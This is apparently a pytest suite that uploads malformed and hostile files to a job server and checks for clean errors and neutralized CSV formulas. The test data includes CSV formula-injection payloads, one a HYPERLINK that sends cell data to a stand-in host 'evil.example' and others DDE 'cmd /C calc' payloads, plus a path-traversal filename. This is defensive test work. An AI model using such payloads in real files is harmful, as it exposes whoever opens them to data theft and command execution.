"""Hostile and odd files, each through a real server: every one gives a correct result or a
clear 400 (or ``job:failed``) with a message a person can act on, never a 5xx, a traceback, a
stuck job or a dead server; spreadsheet formulas come out of the CSV output neutralized."""

from __future__ import annotations

import asyncio
import gzip
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.conftest import multipart

PHONE = {"Phone": "phone"}
GOOD = b"Phone,Email\n(415) 555-2671,ann@example.com\n415.555.0199,bob@example.com\n"


def parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


def arrow_stream(table: pa.Table) -> bytes:
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue().to_pybytes()


def zipped(data: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("contacts.csv", data)
    return sink.getvalue()


@dataclass(frozen=True)
class Case:
    """A file, how it is sent, and what must come of it: ``refused`` (a 400 whose message
    contains the text), ``failed`` (a job that fails with that text), or a completed job whose
    CSV output ``check`` accepts (``rows``: how many data rows it must have)."""

    data: bytes
    filename: str = "contacts.csv"
    content_type: str = "text/csv"
    columns: dict[str, Any] | str | None = None
    refused: str | None = None
    failed: str | None = None
    rows: int | None = None
    check: Callable[[pd.DataFrame], None] | None = None


def output_has(column: str, values: list[str]) -> Callable[[pd.DataFrame], None]:
    def check(output: pd.DataFrame) -> None:
        assert output[column].tolist() == values

    return check


def has_column(name: str) -> Callable[[pd.DataFrame], None]:
    def check(output: pd.DataFrame) -> None:
        assert name in output.columns, list(output.columns)

    return check


def note_is_ten_megabytes(output: pd.DataFrame) -> None:
    assert len(output["Note"][0]) == 10 << 20


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "-5",
    "+14155552671",
    "plain",
]
FORMULA_CSV = (
    pd.DataFrame({"Note": FORMULAS, "Phone": "(415) 555-2671"}).to_csv(index=False).encode()
)
NEUTRALIZED = ["'" + v for v in FORMULAS[:5]] + FORMULAS[5:]

NESTED = pa.table(
    {
        "Phone": ["(415) 555-2671", "bad"],
        "Tags": [["a", "b"], []],
        "Meta": [{"x": 1, "y": "z"}, {"x": 2, "y": None}],
    }
)

CASES: dict[str, Case] = {
    "utf8-bom": Case(b"\xef\xbb\xbf" + GOOD, rows=2),
    "utf16-le-excel-unicode-text": Case(
        "\ufeffPhone\tEmail\n(415) 555-2671\tann@example.com\n".encode("utf-16-le"),
        refused="UTF-16",
    ),
    "utf16-be": Case("\ufeffPhone,Email\n1,2\n".encode("utf-16-be"), refused="UTF-16"),
    "utf16-without-bom": Case("Phone,Email\n1,2\n".encode("utf-16-le"), refused="UTF-16"),
    "latin1-header": Case("Téléphone\n(415) 555-2671\n".encode("latin-1"), refused="not UTF-8"),
    "cp1252-value": Case(
        "Phone,Name\n(415) 555-2671,José\n".encode("cp1252"),
        columns={"Phone": "phone", "Name": "name"},
        rows=1,
        check=output_has("_errors", ["Name:not_utf8"]),
    ),
    "crlf": Case(
        GOOD.replace(b"\n", b"\r\n"),
        rows=2,
        check=output_has("Phone", ["(415) 555-2671", "415.555.0199"]),
    ),
    "lone-cr": Case(
        GOOD.replace(b"\n", b"\r"),
        rows=2,
        check=output_has("Email", ["ann@example.com", "bob@example.com"]),
    ),
    "mixed-line-ends": Case(b"Phone,Email\r\n1,a@b.co\n2,c@d.co\r\n", rows=2),
    "semicolons": Case(GOOD.replace(b",", b";"), rows=2),
    "tabs": Case(GOOD.replace(b",", b"\t"), filename="contacts.tsv", rows=2),
    "pipes": Case(GOOD.replace(b",", b"|"), rows=2),
    "quoted-newlines": Case(
        b'Phone,Address\n(415) 555-2671,"1 Main St\nApt 2\r\nSpringfield"\n',
        rows=1,
        check=output_has("Address", ["1 Main St\nApt 2\r\nSpringfield"]),
    ),
    "ragged-too-many": Case(GOOD + b"1,2,3\n", refused="expected 2 fields, found 3"),
    "ragged-too-few": Case(GOOD + b"(415) 555-2671\n", refused="expected 2 fields, found 1"),
    "unclosed-quote": Case(b'Phone,Email\n"(415) 555-2671,a@b.co\n1,2\n', refused="never closed"),
    "stray-quote-inside-field": Case(b'Phone,Email\n41"5,a@b.co\n', rows=1),
    "blank-lines": Case(b"Phone,Email\n\n1,a@b.co\n\n\n2,b@c.co\n", rows=2),
    "nul-in-value": Case(b"Phone,Email\n415\x00555,a@b.co\n", rows=1),
    "nul-in-header": Case(b"Pho\x00ne,Email\n1,a@b.co\n", columns={"Email": "email"}, rows=1),
    "ten-megabyte-field": Case(
        b"Phone,Note\n(415) 555-2671," + b"x" * (10 << 20) + b"\n",
        rows=1,
        check=note_is_ten_megabytes,
    ),
    "ten-megabyte-typed-value": Case(
        b"Phone\n" + b"1" * (10 << 20) + b"\n",
        rows=1,
        check=output_has("_errors", ["Phone:value_too_long"]),
    ),
    "hundred-thousand-columns": Case(
        (
            ",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join("1" * 100_000) + "\n"
        ).encode(),
        columns={"c0": "phone"},
        refused="at most 10,000",
    ),
    "duplicate-column-names": Case(b"Phone,Phone\n1,2\n", refused="duplicate column names"),
    "empty-column-name": Case(b"Phone,,Email\n1,2,3\n", refused="blank column names"),
    "trailing-delimiter": Case(b"Phone,Email,\n1,a@b.co,\n", refused="blank column names"),
    "header-only": Case(b"Phone,Email\n", refused="no data rows"),
    "zero-bytes": Case(b"", refused="empty"),
    "only-whitespace": Case(b"   \n\n  \n", refused=""),
    "gzip-named-csv": Case(gzip.compress(GOOD), refused="gzip-compressed"),
    "zip-named-csv": Case(zipped(GOOD), refused="zip archive"),
    "binary-junk-named-csv": Case(os.urandom(4096) + b"\xff\xfe\x00", refused=""),
    "bogus-parquet": Case(
        b"PAR1 not really",
        filename="x.parquet",
        content_type="application/octet-stream",
        refused="Parquet",
    ),
    "truncated-parquet": Case(
        parquet(pa.table({"Phone": ["1"] * 100}))[:-20], filename="x.parquet", refused="Parquet"
    ),
    "bogus-arrow": Case(b"ARROW1\x00\x00garbage", filename="x.arrow", refused="Arrow IPC"),
    "empty-parquet": Case(
        parquet(pa.table({"Phone": pa.array([], pa.string())})),
        filename="x.parquet",
        refused="no rows",
    ),
    "parquet-with-nested-types": Case(parquet(NESTED), filename="x.parquet", rows=2),
    "arrow-with-nested-types": Case(arrow_stream(NESTED), filename="x.arrow", rows=2),
    "typed-nested-column": Case(
        parquet(NESTED), filename="x.parquet", columns={"Tags": "phone"}, rows=2
    ),
    "formula-injection": Case(
        FORMULA_CSV,
        columns={"Phone": "phone"},
        rows=len(FORMULAS),
        check=output_has("Note", NEUTRALIZED),
    ),
    "formula-in-header": Case(
        b"=cmd|' /C calc'!A0,Phone\nx,(415) 555-2671\n",
        rows=1,
        check=has_column("'=cmd|' /C calc'!A0"),
    ),
    "unknown-column-in-spec": Case(
        GOOD, columns={"Mobile": "phone"}, refused='Column "Mobile" is not in the input'
    ),
    "decomposed-header": Case(
        "Te\u0301le\u0301phone\n(415) 555-2671\n".encode(),
        columns={"Téléphone": "phone"},
        refused="not in the input",
    ),
    "direction-overrides-in-values": Case(
        "Phone,Email\n\u202e(415) 555-2671,\u2066ann@example.com\u2069\n".encode(),
        rows=1,
        check=output_has("_valid", ["True"]),
    ),
    "unknown-extension": Case(
        GOOD,
        filename="contacts.xlsx",
        content_type="application/vnd.ms-excel",
        refused="Cannot read",
    ),
    "traversal-in-filename": Case(GOOD, filename="../../../etc/passwd.csv", rows=2),
    "columns-not-json": Case(GOOD, columns="{not json", refused="not valid JSON"),
    "columns-not-an-object": Case(GOOD, columns="[1, 2]", refused="must be a JSON object"),
}


async def final_state(jp_fetch: Any, job_id: int, timeout: float = 120) -> dict[str, Any]:
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        response = await jp_fetch("nbjobs", "api", "jobs", str(job_id), raise_error=False)
        job = json.loads(response.body)
        if job["status"] not in ("queued", "running"):
            return job
        assert asyncio.get_running_loop().time() < deadline, f"job {job_id} is stuck: {job}"
        await asyncio.sleep(0.1)


@pytest.mark.nbjobs_config(max_upload_bytes=64 << 20)
@pytest.mark.parametrize("name", sorted(CASES))
async def test_hostile_input(name, jp_fetch):
    case = CASES[name]
    columns = case.columns if case.columns is not None else PHONE
    body, headers = multipart(
        case.data, columns, filename=case.filename, content_type=case.content_type
    )
    response = await jp_fetch(
        "nbjobs", "api", "jobs", method="POST", body=body, headers=headers, raise_error=False
    )
    assert response.code < 500, response.body[:500]
    answer = json.loads(response.body)
    text = json.dumps(answer)
    assert "Traceback" not in text and 'File "' not in text
    if case.refused is not None:
        assert response.code == 400, answer
        assert answer["message"] and case.refused in answer["message"], answer
    else:
        assert response.code == 201, answer
        job = await final_state(jp_fetch, answer["jobId"])
        if case.failed is not None:
            assert job["status"] == "failed" and case.failed in job["errorMessage"], job
        else:
            assert job["status"] == "completed", job
            assert job["processedRows"] == case.rows
            output = await jp_fetch("nbjobs", "api", "jobs", str(job["jobId"]), "output")
            frame = pd.read_csv(
                io.BytesIO(output.body), dtype=str, keep_default_na=False, encoding="utf-8"
            )
            assert len(frame) == case.rows
            if case.check is not None:
                case.check(frame)
    status = await jp_fetch("api", "status")  # the server is still up
    assert status.code == 200


@pytest.mark.nbjobs_config(csv_escape_formulas=False)
async def test_formulas_are_kept_as_written_when_escaping_is_off(jp_fetch):
    body, headers = multipart(FORMULA_CSV, {"Phone": "phone"})
    response = await jp_fetch("nbjobs", "api", "jobs", method="POST", body=body, headers=headers)
    job = await final_state(jp_fetch, json.loads(response.body)["jobId"])
    output = await jp_fetch("nbjobs", "api", "jobs", str(job["jobId"]), "output")
    frame = pd.read_csv(io.BytesIO(output.body), dtype=str, keep_default_na=False)
    assert frame["Note"].tolist() == FORMULAS


async def test_the_parquet_output_keeps_formulas_as_written(jp_fetch):
    body, headers = multipart(FORMULA_CSV, {"Phone": "phone"})
    response = await jp_fetch("nbjobs", "api", "jobs", method="POST", body=body, headers=headers)
    job = await final_state(jp_fetch, json.loads(response.body)["jobId"])
    output = await jp_fetch(
        "nbjobs", "api", "jobs", str(job["jobId"]), "output", params={"format": "parquet"}
    )
    assert pq.read_table(io.BytesIO(output.body)).column("Note").to_pylist() == FORMULAS


def test_there_are_at_least_forty_kinds():
    assert len(CASES) >= 40
